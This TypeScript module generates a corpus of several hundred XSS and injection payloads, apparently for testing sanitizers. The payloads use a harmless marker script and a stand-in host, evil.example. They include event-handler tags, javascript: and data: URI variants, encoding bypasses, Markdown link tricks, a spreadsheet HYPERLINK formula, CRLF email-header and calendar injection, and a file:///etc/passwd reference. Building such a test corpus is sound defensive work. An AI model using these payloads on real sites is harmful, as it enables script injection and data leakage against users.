/** What runs, or calls home, where a text is taken for more than a text. Both are noticed: `__ran` by the page, the address by its requests. */
const script = 'window.__ran=1';
const home = 'https://evil.example';

const elements = [
  `<script>${script}</script>`,
  `<script src=${home}/x.js></script>`,
  `<ScRiPt>${script}</sCrIpT>`,
  `<script/x>${script}</script>`,
  `<scr<script>ipt>${script}</script>`,
  `<script type=module>${script}</script>`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><animate onbegin=${script} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${script}>#x"/></svg>`,
  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<img src=x onerror=${script}>`,
  `<img src=${home}/p.gif>`,
  `<img/src=x/onerror=${script}>`,
  `<img src="x" onerror="${script}" `,
  `<image src=x onerror=${script}>`,
  `<picture><source srcset=${home}/p.gif><img></picture>`,
  `<video src=x onerror=${script}></video>`,
  `<video poster=${home}/p.gif></video>`,
  `<audio src=${home}/a.mp3 autoplay></audio>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src=${home}></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<object data=${home}/x.swf></object>`,
  `<embed src=${home}/x.swf>`,
  `<base href=${home}/>`,
  `<link rel=stylesheet href=${home}/x.css>`,
  `<style>@import '${home}/x.css';</style>`,
  `<style>*{background:url(${home}/p.gif)}</style>`,
  `<meta http-equiv=refresh content="0;url=${home}">`,
  `<form action=${home}><button>Go</button></form>`,
  `<form><button formaction="javascript:${script}">Go</button></form>`,
  `<input autofocus onfocus=${script}>`,
  `<select autofocus onfocus=${script}></select>`,
  `<textarea autofocus onfocus=${script}></textarea>`,
  `<body onload=${script}>`,
  `<details open ontoggle=${script}><summary>x</summary></details>`,
  `<marquee onstart=${script}>x</marquee>`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="data:text/html,<script>${script}</script>">x</a>`,
  `<div style="background:url(${home}/p.gif)">x</div>`,
  `<div onmouseover=${script} style="position:fixed;inset:0">x</div>`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<!--><img src=x onerror=${script}>-->`,
  `<![CDATA[<img src=x onerror=${script}>]]>`,
  `<?xml version="1.0"?><x onload="${script}"/>`,
  `<x onclick=${script} tabindex=1 autofocus onfocus=${script}>x</x>`,
  `<dialog open onclose=${script}>x</dialog>`,
];

/** What would end the place that a text is put into, before it goes on as an element. */
const endings = ['', '">', "'>", '`>', '</title>', '</textarea>', '</script>', ']]>'];

const schemes = [
  `javascript:${script}`,
  `JaVaScRiPt:${script}`,
  `java\tscript:${script}`,
  `java\nscript:${script}`,
  ` javascript:${script}`,
  `\u0001javascript:${script}`,
  `javascript&colon;${script}`,
  `&#106;avascript:${script}`,
  `javascript://example.org/%0A${script}`,
  `vbscript:${script}`,
  `data:text/html,<script>${script}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${script}>`,
  `blob:${home}/1`,
  `file:///etc/passwd`,
  `view-source:${home}`,
  `//evil.example/p.gif`,
];

/** Where Markdown, or somebody who reads addresses out of a text, could make a link or a picture of one. */
const links = [
  (to: string) => to,
  (to: string) => `[x](${to})`,
  (to: string) => `[x](<${to}>)`,
  (to: string) => `![x](${to})`,
  (to: string) => `<${to}>`,
  (to: string) => `[x][1]\n\n[1]: ${to}`,
];

const others = [
  `![x](${home}/p.gif)`,
  `[x](${home}/"onmouseover="${script})`,
  `[x](https://example.org "title" onclick=${script})`,
  `https://example.org/"><img src=x onerror=${script}>`,
  `https://example.org/'onclick='${script}`,
  `mailto:a@example.org?body=<script>${script}</script>`,
  `\`<img src=x onerror=${script}>\``,
  `\`\`\`html\n<script>${script}</script>\n\`\`\``,
  `@[1"><img src=x onerror=${script}>]`,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `{"__html":"<img src=x onerror=${script}>"}`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `&#60;img src=x onerror=${script}&#62;`,
  `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  `%3Cscript%3E${script}%3C/script%3E`,
  `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  `\u202e<script>${script}</script>\u202c`,
  `＜script＞${script}＜/script＞`,
  `=HYPERLINK("${home}","x")`,
  `x\r\nBcc: eve@evil.example\r\n\r\n<script>${script}</script>`,
  `x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nATTACH:${home}/x\r\n`,
  `<img src=x onerror=eval(atob('d2luZG93Ll9fcmFuPTE='))>`,
  `<a href=" &#14; javascript:${script}">x</a>`,
  `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
];

/** Five hundred and some, each of them another. */
export const payloads: readonly string[] = [
  ...new Set([
    ...elements.flatMap((element) => endings.map((ending) => `${ending}${element}`)),
    ...schemes.flatMap((scheme) => links.map((link) => link(scheme))),
    ...others,
  ]),
];

/** All of them, in as few texts as are allowed to be so long. */
export function packed(longest: number, between = '\n\n'): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const longer = texts.length === 0 ? payload : `${texts.at(-1)}${between}${payload}`;
    if (texts.length > 0 && longer.length <= longest) texts[texts.length - 1] = longer;
    else texts.push(payload);
  }
  return texts;
}
